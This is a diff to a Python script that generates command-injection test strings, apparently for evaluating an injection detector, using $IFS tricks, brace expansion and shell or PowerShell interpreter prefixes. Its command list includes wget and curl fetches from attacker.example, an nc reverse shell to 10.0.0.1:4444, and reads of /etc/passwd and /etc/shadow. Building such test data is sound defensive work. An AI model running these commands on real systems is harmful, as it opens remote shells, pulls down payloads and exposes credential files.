@@ -18,6 +18,12 @@ as it would arrive in a query string:
       declarations in UTF-7 where only '<' is shifted ("+ADw-!DOCTYPE",
       "+ADw-!ENTITY") x declaration x target x with or without an
       encoding="UTF-7" declaration.
+  tests/data/gen-cmdi2.txt  command lines with no separator before them,
+      whose syntax only a shell or an interpreter reads: a command word
+      and its arguments joined by $IFS / ${IFS} / $IFS$9, brace expansion
+      {cmd,arg,...}, and an interpreter told to run a command (cmd /c,
+      cmd.exe /k, powershell -c/-enc, pwsh -command, bash -c, sh -c)
+      x command x leading quote or space.
 Written from each construct's grammar, not copied from any list; a single
 plain "../" is left out on purpose: in a parameter it is a relative link
 as often as an attack. Deterministic. Usage: tools/gen-unseen.py [DIR]."""
@@ -102,9 +108,49 @@ def xxe2():
     return [r.replace('%', '%25').replace('+', '%2B') for r in out]
 
 
+CMDS = [('cat', '/etc/passwd'), ('ls', '-la'), ('id', ''), ('uname', '-a'),
+        ('wget', 'http://attacker.example/x'), ('nc', '10.0.0.1 4444 -e /bin/sh'),
+        ('sleep', '5'), ('ping', '-c 3 127.0.0.1'), ('curl', 'http://attacker.example/s.sh'),
+        ('whoami', ''), ('head', '/etc/shadow')]
+IFS = ['$IFS', '${IFS}', '$IFS$9', '${IFS%??}']
+INTERP = ['cmd /c', 'cmd.exe /c', 'cmd /k', 'CMD.EXE /C', 'cmd /r', 'powershell -c',
+          'powershell.exe -command', 'powershell -enc', 'pwsh -c', 'powershell -nop -c',
+          'bash -c', 'sh -c', '/bin/sh -c', 'bash -c', 'zsh -c']
+WINC = ['whoami', 'dir c:\\', 'type c:\\windows\\win.ini', 'net user', 'ipconfig /all',
+        'ping -n 5 127.0.0.1', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=']
+
+
+def cmdi2():
+    out = []
+    for c, arg in CMDS:
+        words = [c] + arg.split()
+        for ifs in IFS:
+            if len(words) > 1:
+                out.append(ifs.join(words))
+                out.append(ifs.join(words) + ifs)
+        if len(words) > 1:
+            out.append('{' + ','.join(words) + '}')
+            out.append("'{" + ','.join(words) + "}'")
+    for it in INTERP:
+        for w in WINC:
+            if it.endswith('-enc') != w.startswith('SQBF'):
+                continue
+            for lead in ('', ' ', '"'):
+                arg = w if 'sh -c' not in it else "'" + w.replace('\\', '/') + "'"
+                out.append(lead + it + ' ' + arg)
+    seen, rows = set(), []
+    for r in out:
+        r = r.replace('%', '%25').replace('+', '%2B').replace('&', '%26')
+        if r not in seen:
+            seen.add(r)
+            rows.append(r)
+    return rows
+
+
 def main():
     d = sys.argv[1] if len(sys.argv) > 1 else 'tests/data'
-    for name, lines in (('gen-trav2.txt', trav2()), ('gen-xxe2.txt', xxe2())):
+    for name, lines in (('gen-trav2.txt', trav2()), ('gen-xxe2.txt', xxe2()),
+                        ('gen-cmdi2.txt', cmdi2())):
         with open(os.path.join(d, name), 'w') as f:
             for l in lines:
                 assert '\n' not in l and '\r' not in l
